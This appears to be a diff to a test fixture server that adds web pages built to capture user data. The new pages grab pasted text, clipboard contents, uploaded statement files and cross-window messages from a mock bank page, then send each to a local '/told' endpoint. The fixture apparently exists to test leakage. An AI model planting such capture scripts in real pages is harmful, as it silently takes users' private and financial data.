@@ -111,6 +111,7 @@ function unauthorised(packet) {
   return Buffer.concat([head, fields]);
 }
 
+const TOLD = (value) => `fetch('/told?d=' + encodeURIComponent(${value}))`;
 const SEND = "fetch('/told?d=' + encodeURIComponent(event.target.value))";
 const FIELD = '<form action="/c"><input name="d" aria-label="Notes" autofocus></form>';
 
@@ -119,6 +120,10 @@ const PAGES = {
   '/listening': `<label>Notes <input oninput="${SEND}"></label>`,
   '/fragment': "<script>fetch('/told?d=' + encodeURIComponent(decodeURIComponent(location.hash)))</script>",
   '/name': "<script>fetch('/told?d=' + encodeURIComponent(window.name))</script>",
+  '/pasting': `<label>Notes <textarea></textarea></label><script>addEventListener('paste', (e) => ${TOLD("e.clipboardData.getData('text')")})</script>`,
+  '/reading': `<button onclick="navigator.clipboard.readText().then((t) => ${TOLD('t')})">Go on</button>`,
+  '/upload': `<label>Statement <input type="file" onchange="this.files[0].text().then((t) => ${TOLD('btoa(unescape(encodeURIComponent(t)))')})"></label>`,
+  '/hearing': `<button onclick="window.open('http://harbourbank.example/account')">Open your bank</button><script>addEventListener('message', (e) => ${TOLD('JSON.stringify(e.data)')})</script>`,
   '/surface/closed-root': `<div id="host"></div><script>
     const root = document.getElementById('host').attachShadow({ mode: 'closed' });
     root.innerHTML = '${FIELD}'; root.querySelector('input').focus();</script>`,
